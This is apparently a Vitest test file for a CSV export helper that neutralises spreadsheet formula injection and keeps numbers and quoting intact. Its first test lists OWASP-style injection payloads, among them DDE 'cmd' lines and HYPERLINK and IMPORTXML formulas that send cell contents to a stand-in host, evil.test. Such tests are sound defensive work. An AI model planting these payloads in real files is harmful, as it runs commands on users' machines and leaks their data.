import { describe, expect, it } from 'vitest';
import { csvLine, safeCell, toCsv } from './csv';

describe('formula-safe CSV (CONTRACT §10)', () => {
  it('prefixes every cell a spreadsheet would run as a formula', () => {
    // The payloads of OWASP's "CSV Injection" page and the usual variants.
    for (const formula of [
      "=cmd|' /C calc'!A0",
      "=cmd|' /C notepad'!'A1'",
      "-2+3+cmd|' /C calc'!A0",
      "+2+3+cmd|' /C calc'!A0",
      "@SUM(1+9)*cmd|' /C calc'!A0",
      '=1+2";=1+2',
      '=HYPERLINK("http://evil.test?leak="&A1&A2,"Error: please click for details")',
      '=IMPORTXML(CONCAT("http://evil.test/?v=", CONCATENATE(A2:E2)), "//a")',
      '+1+2',
      '-2+3',
      '-1+2',
      '-A1',
      "-cmd|' /C calc'!A0",
      "-600+cmd|' /C calc'!A0",
      '-600\n=1+1',
      '-600 ',
      '-1e5',
      '--600',
      '-.5',
      '-',
      '@SUM(A1:A2)',
      '\t=1+1',
      '\r=1+1',
    ]) {
      expect(safeCell(formula), formula).toBe(`'${formula}`);
    }
  });

  it('leaves numbers as numbers, negative ones too, as numbers or as text that is exactly one', () => {
    expect(safeCell(42)).toBe('42');
    expect(safeCell(-600)).toBe('-600');
    expect(safeCell(-12.5)).toBe('-12.5');
    expect(safeCell(0)).toBe('0');
    for (const number of ['-600', '-12.5', '-0', '12', '3.25']) expect(safeCell(number)).toBe(number);
    // Not a finite number: written as text, and guarded like text.
    expect(safeCell(Number.NEGATIVE_INFINITY)).toBe("'-Infinity");
  });

  it('leaves ordinary text as it is', () => {
    for (const plain of ['teacher@school.test', 'Ava García', 'a=b', "O'Brien", ' =leading space', '1-2']) {
      expect(safeCell(plain)).toBe(plain);
    }
    expect(safeCell(null)).toBe('');
    expect(safeCell(undefined)).toBe('');
    expect(safeCell(true)).toBe('true');
  });

  it('quotes every cell, doubles quotes, and ends lines with CRLF', () => {
    expect(csvLine(['a "b"', 'c,d', 'e\nf'])).toBe('"a ""b""","c,d","e\nf"');
    expect(toCsv(['row', 'email', 'credits'], [[1, '=1+1', -600]])).toBe(
      '"row","email","credits"\r\n"1","\'=1+1","-600"\r\n',
    );
  });
});
